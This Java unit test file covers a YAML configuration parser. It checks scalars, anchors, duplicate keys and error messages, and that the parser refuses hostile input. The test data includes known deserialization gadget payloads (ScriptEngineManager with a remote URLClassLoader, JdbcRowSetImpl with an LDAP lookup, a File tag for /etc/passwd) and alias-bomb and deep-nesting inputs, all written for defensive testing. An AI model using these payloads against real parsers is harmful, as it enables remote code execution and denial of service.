package io.dm4j.config;

import static org.assertj.core.api.Assertions.assertThat;

import io.dm4j.config.Node.Block;
import io.dm4j.config.Node.Scalar;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class YamlTextTest {

    @ParameterizedTest
    @ValueSource(strings = {"0123", "no", "1e3", "2026-01-01", "0x1F", "1_000", "12:30:45", "9223372036854775808"})
    void keepsPlainScalarsAsWritten(String written) {
        assertThat(text("key: " + written, "key")).isEqualTo(written);
    }

    @Test
    void knowsTheLineOfEachKey() {
        Block block = YamlText.parse("f", "# comment\na: 1\n\nb:\n  c: 2\n");

        assertThat(block.entries().get("a").place()).isEqualTo(new Place("f", 2));
        assertThat(block.entries().get("b").place()).isEqualTo(new Place("f", 4));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "# nothing", "---", "{}"})
    void nothingIsAnEmptyBlock(String yaml) {
        assertThat(YamlText.parse("f", yaml).isEmpty()).isTrue();
    }

    @Test
    void anchorsAndMergeKeysWork() {
        Block block = YamlText.parse("f", "base: &b {x: 1, y: 2}\nuse:\n  <<: *b\n  y: 3\nsame: *b\n");

        Block use = (Block) block.entries().get("use");
        assertThat(((Scalar) use.entries().get("x")).text()).isEqualTo("1");
        assertThat(((Scalar) use.entries().get("y")).text()).isEqualTo("3");
        assertThat(((Block) block.entries().get("same")).entries()).containsKeys("x", "y");
    }

    @Test
    void refusesDuplicateKeysWithBothLines() {
        Problem problem = Refusals.one(() -> YamlText.parse("f", "a: 1\nb: 2\na: 3\n"));

        assertThat(problem.toString()).isEqualTo("f:3: a: is there twice, first in line 1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://h/\"]]]]",
                "a: !!java.io.File /etc/passwd",
                "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://h/o', autoCommit: true}",
                "a: !custom x",
                "a: !!binary aGVsbG8="
            })
    void noTagMakesAnything(String yaml) {
        assertThat(Refusals.of(() -> YamlText.parse("f", yaml)))
                .isNotEmpty()
                .allSatisfy(problem -> assertThat(problem.code()).isEqualTo(ConfigError.YAML_WRONG));
    }

    @Test
    void deepNestingIsRefused() {
        Refusals.one(() -> YamlText.parse("f", "a: " + "[".repeat(20_000) + "]".repeat(20_000)));
        Refusals.one(() -> YamlText.parse("f", "a: " + "{b: ".repeat(5_000) + "}".repeat(5_000)));
    }

    @Test
    void aliasBombsAreRefusedSoon() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x]\n");
        for (int i = 1; i < 12; i++) {
            String alias = "*a" + (i - 1);
            bomb.append("a" + i + ": &a" + i + " [" + (alias + ",").repeat(8) + alias + "]\n");
        }

        Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(10), () -> Refusals.one(() -> YamlText.parse("f", bomb.toString())));
    }

    @ParameterizedTest
    @ValueSource(strings = {"a: &x [*x]", "a: &x {b: *x}", "a: &x\n  <<: *x\n"})
    void circlesAreRefused(String yaml) {
        Refusals.one(() -> YamlText.parse("f", yaml));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: [1",
                "a: b: c",
                "\tx: 1",
                "a: \"open",
                "--- 1\n--- 2",
                "a: *nobody",
                "[a]",
                "just text",
                "a: \u0001"
            })
    void otherTextsAreRefused(String yaml) {
        Refusals.one(() -> YamlText.parse("f", yaml));
    }

    @Test
    void aSyntaxErrorDoesNotQuoteItsSurroundings() {
        Problem problem = Refusals.one(() -> YamlText.parse("f", "from:\n  password: hunter2 'x\n  : }{\n"));

        assertThat(problem.toString()).doesNotContain("hunter2");
        assertThat(problem.line()).isPositive();
    }

    @Test
    void aTextThatIsTooLongIsRefused() {
        Refusals.one(() -> YamlText.parse("f", "a: " + "x".repeat(TextFile.LARGEST)));
    }

    @Test
    void theLargestTextsAreReadSoon() {
        int most = TextFile.LARGEST - 10;
        List<String> texts = List.of(
                "a: " + "x".repeat(most),
                "a: \"" + "x".repeat(most) + "\"",
                "- ".repeat(most / 2),
                "a: [" + "x,".repeat(most / 2 - 1) + "]",
                "a:\n" + "- {}\n".repeat(most / 5),
                "? ".repeat(most / 2),
                "&a ".repeat(most / 3),
                "a: '" + "\n".repeat(most));

        for (String text : texts) {
            long start = System.nanoTime();
            try {
                YamlText.parse("f", text);
            } catch (ConfigException refused) {
                assertThat(refused.problems()).isNotEmpty();
            }
            assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(20));
        }
    }

    private static String text(String yaml, String key) {
        return ((Scalar) YamlText.parse("f", yaml).entries().get(key)).text();
    }
}
